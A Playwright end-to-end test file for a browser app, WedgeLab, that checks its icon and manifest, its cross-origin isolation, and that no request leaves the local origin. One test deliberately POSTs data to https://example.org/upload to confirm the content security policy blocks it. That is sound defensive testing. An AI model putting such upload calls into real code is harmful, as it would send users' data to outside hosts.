/**
 * End-to-end: the static files in public/ (icon and web-app manifest) are linked from the page
 * and served; the page, its workers included, asks nothing of any host but the local server while it
 * starts, loads the demo, runs every method and exports; and it is isolated and under a content
 * security policy that refuses every other origin.
 */
import { expect, test } from '@playwright/test';
import { METHODS, type MethodName } from '../src/engine/methods/registry.ts';

const localHosts = new Set(['127.0.0.1', 'localhost', '[::1]']);

/** The URL if it leaves this machine, else null (data: and blob: URLs are in-page). */
function remote(url: string): string | null {
  const { protocol, hostname } = new URL(url);
  if (protocol === 'data:' || protocol === 'blob:') return null;
  return localHosts.has(hostname) ? null : url;
}

test('the icon and manifest links resolve, and nothing is fetched from another host', async ({ browser }) => {
  const context = await browser.newContext({ viewport: { width: 1400, height: 900 } });
  const remoteRequests: string[] = [];
  const pageErrors: string[] = [];
  context.on('request', (request) => {
    const url = remote(request.url());
    if (url) remoteRequests.push(url);
  });
  const page = await context.newPage();
  page.on('websocket', (socket) => {
    const url = remote(socket.url());
    if (url) remoteRequests.push(url);
  });
  page.on('pageerror', (error) => pageErrors.push(error.message));
  await page.goto('/');
  await expect(page).toHaveTitle('WedgeLab');

  const links = await page.evaluate(() => ({
    icon: document.querySelector<HTMLLinkElement>('link[rel="icon"]')?.href ?? null,
    iconType: document.querySelector<HTMLLinkElement>('link[rel="icon"]')?.type ?? null,
    manifest: document.querySelector<HTMLLinkElement>('link[rel="manifest"]')?.href ?? null,
    themeColor: document.querySelector<HTMLMetaElement>('meta[name="theme-color"]')?.content ?? null,
  }));
  expect(links.icon).not.toBeNull();
  expect(links.manifest).not.toBeNull();
  expect(links.iconType).toBe('image/svg+xml');
  expect(links.themeColor).toMatch(/^#[0-9a-f]{6}$/i);

  // Fetched by the page itself, from the URLs its links resolve to.
  const fetched = await page.evaluate(async ({ iconUrl, manifestUrl }) => {
    const get = async (url: string) => {
      const response = await fetch(url, { cache: 'no-store' });
      return { url: response.url, status: response.status, type: response.headers.get('content-type') ?? '', text: await response.text() };
    };
    const icon = await get(iconUrl);
    const manifest = await get(manifestUrl);
    const svg = new DOMParser().parseFromString(icon.text, 'image/svg+xml').documentElement;
    type Manifest = { name?: string; icons?: { src: string; sizes?: string; type?: string }[]; theme_color?: string };
    let parsed: Manifest | null;
    try {
      parsed = JSON.parse(manifest.text) as Manifest;
    } catch {
      parsed = null;
    }
    // Icon sources in a manifest resolve against the manifest's own URL.
    const manifestIcons = await Promise.all(
      (parsed?.icons ?? []).map(async (entry) => {
        const { status, type } = await get(new URL(entry.src, manifest.url).href);
        return { status, type };
      }),
    );
    return {
      icon: { status: icon.status, type: icon.type, root: svg.localName, namespace: svg.namespaceURI, parseError: svg.querySelector('parsererror') !== null },
      manifest: { status: manifest.status, parsed, manifestIcons },
    };
  }, { iconUrl: links.icon!, manifestUrl: links.manifest! });

  expect(fetched.icon.status).toBe(200);
  expect(fetched.icon.type).toContain('image/svg+xml');
  expect(fetched.icon).toMatchObject({ root: 'svg', namespace: 'http://www.w3.org/2000/svg', parseError: false });

  expect(fetched.manifest.status).toBe(200);
  expect(fetched.manifest.parsed, 'manifest parses as JSON').not.toBeNull();
  expect(fetched.manifest.parsed?.name).toBe('WedgeLab');
  expect(fetched.manifest.parsed?.icons).toContainEqual(expect.objectContaining({ sizes: 'any', type: 'image/svg+xml' }));
  expect(fetched.manifest.parsed?.theme_color?.toLowerCase()).toBe(links.themeColor?.toLowerCase());
  expect(fetched.manifest.manifestIcons.length).toBeGreaterThan(0);
  for (const icon of fetched.manifest.manifestIcons) {
    expect(icon.status).toBe(200);
    expect(icon.type).toContain('image/svg+xml');
  }

  // Let the app start as a user would see it (engine worker, WebGPU, the simulated demo), then look at what it asked for.
  await expect(page.getByTestId('dataset-summary')).toContainText('Simulated demo', { timeout: 150_000 });
  expect(remoteRequests, 'requests to hosts other than 127.0.0.1/localhost').toEqual([]);
  expect(pageErrors).toEqual([]);
  await context.close();
});

test('the page is cross-origin isolated and its content security policy refuses every other origin', async ({ browser }) => {
  const page = await browser.newPage();
  await page.goto('/');
  await expect(page).toHaveTitle('WedgeLab');
  const state = await page.evaluate(() => ({
    isolated: globalThis.crossOriginIsolated,
    sharedMemory: typeof SharedArrayBuffer === 'function',
    policy: document.querySelector<HTMLMetaElement>('meta[http-equiv="Content-Security-Policy"]')?.content ?? '',
  }));
  expect(state).toMatchObject({ isolated: true, sharedMemory: true });
  expect(state.policy).toContain("default-src 'self'");
  expect(state.policy).toContain("connect-src 'self'");
  // A script that tried to send data elsewhere is stopped by the browser itself, before any request is made.
  const attempt = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.violatedDirective} ${e.blockedURI}`));
    const outcome = await fetch('https://example.org/upload', { method: 'POST', body: 'tomogram' }).then(
      () => 'sent',
      () => 'blocked',
    );
    await new Promise((r) => setTimeout(r, 100));
    // The policy comes as a header and as a meta tag: each reports the same violation.
    return { outcome, violations: [...new Set(violations)] };
  });
  expect(attempt.outcome).toBe('blocked');
  expect(attempt.violations).toEqual(['connect-src https://example.org/upload']);
  await page.close();
});

/** Small settings for every method, so that each runs in seconds on a software adapter; keyed by every method name. */
const SMALL: Record<MethodName, Record<string, unknown>> = {
  fbp: { binning: 4, thickness: 8 },
  sirt: { binning: 4, thickness: 8, iterations: 2 },
  coordnet: { binning: 4, thickness: 4, width: 4, layers: 1, slabRows: 32, stepsFirst: 2, stepsNext: 1 },
  localnet: { binning: 4, thickness: 8, model: 'broad-p11-wavelet' },
  gaussian: { sigma: 1 },
  deconv: { defocus: 3 },
  cryogen: { cube: 16, overlap: 4 },
  isonet: { cube: 16, overlap: 4 },
  reproject: { angles: [66, -66], thickness: 16, iterations: 2 },
  latentbp: { angles: [66, -66], thickness: 16 },
};

test('every method runs and exports without one request leaving the page\'s origin', async ({ browser }) => {
  const context = await browser.newContext({ viewport: { width: 1400, height: 900 } });
  const remoteRequests: string[] = [];
  context.on('request', (request) => {
    const url = remote(request.url());
    if (url) remoteRequests.push(url);
  });
  const page = await context.newPage();
  await page.goto('/');
  await expect(page.getByTestId('dataset-summary')).toContainText('Simulated demo', { timeout: 150_000 });
  const kinds = Object.fromEntries(METHODS.map((d) => [d.name, d.kind]));
  const exported = await page.evaluate(
    async ({ small, kinds }) => {
      const bytes: number[] = [];
      for (const [method, params] of Object.entries(small)) {
        const request = { method, params } as never;
        if (kinds[method] === 'reconstruction') {
          bytes.push((await window.wedgelab.exportMrc(await window.wedgelab.run(request))).length);
        } else if (kinds[method] === 'refinement') {
          bytes.push((await window.wedgelab.exportMrc(await window.wedgelab.refine(window.wedgelab.results().at(-1)!.id, request))).length);
        } else {
          await window.wedgelab.synthesize(request);
          bytes.push((await window.wedgelab.exportMrc(await window.wedgelab.run({ method: 'fbp', params: { binning: 4, thickness: 8 } }))).length);
        }
      }
      return bytes;
    },
    { small: SMALL, kinds },
  );
  expect(exported).toHaveLength(METHODS.length);
  for (const length of exported) expect(length).toBeGreaterThan(1024);
  expect(remoteRequests).toEqual([]);
  await context.close();
});
